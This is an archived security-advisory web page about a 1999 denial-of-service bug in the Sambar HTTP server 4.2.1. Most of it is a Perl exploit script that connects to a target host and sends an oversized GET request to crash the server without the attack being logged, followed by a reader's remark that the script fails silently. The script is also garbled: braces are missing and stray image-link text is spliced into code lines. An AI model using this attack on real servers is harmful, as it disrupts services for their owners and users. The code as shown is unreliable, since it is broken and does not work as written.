Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Web :: Servers :: sambar2.htm

Sambar server DoS attack





    Dennis Conrad found following.  While testing the security of  the
    Sambar HTTP-Server he found it vulnerable to a simple DOS  attack.
    Sending a "GET  XXXX(...a lot of  Xs..)XXXX HTTP/1.0" crashes  the
    Server.    It  will   die  WITHOUT   logging  the   attack.    His

        Sambar 4.2.1
        MS IE 5.0 (de)
        Windows 95 C (de)

    Sample exploit code follows:


    # Sample DOS against the Sambar HTTP-Server
    # This was tested against Sambar 4.2.1 running on Windows95 C
    # This attack will NOT be logged! Only use it to determine if# your Server is vulnerable!
    # Dennis Conrad (

    use IO::Socket;

    print "+++++++++\n";
    print "+ Simple DOS-attack against the Sambar HTTP-Server (tested 4.2.1)\n";
    print "+ Found on the 3rd of October 1999 by dennis\\n\n";

    if ($#ARGV != 0) {
            die "+ Please give the host address as argument\n"

    opensocket ("\n");print $remote "GET " . "X" x 99999999999999999999 . " HTTP/1.0\n\n";
    close $remote;

    opensocket ("\n+ The server seemed to be vulnerable to this attack\n");
    close $remote;
    die "+ The server does not seem to be vulnerable to this attack\n";

    sub opensocket {
            $remote = IO::Socket::INET->new (
                    Proto => "tcp",
                    PeerAddr =>$ARGV[0],
                    PeerPort => "http(80)",
            ) || die "+ Can't open http-port on $ARGV[0]$_[0]";

    Using that  many 9s  on my  version of  Perlfails  silently.  The
    above seems equivalent to: print $remote "GET  HTTP/1.0\n\n";

        steve@grok:/home/steve% perl -e 'print "X"x99999999999999999999;'
        steve@grok:/home/steve% perl -e 'print "X"x99999999999999999999 || die;'
        Died at -e line 1.
        steve@grok:/home/steve% perl -v

        This is perl, version 5.005_03 built for i386-freebsd


    Nothing yet.

TUCoPS is optimized to look best in Firefox® on awidescreen monitor (1440x900 or better).
Site design & layoutcopyright © 1986-2015 AOH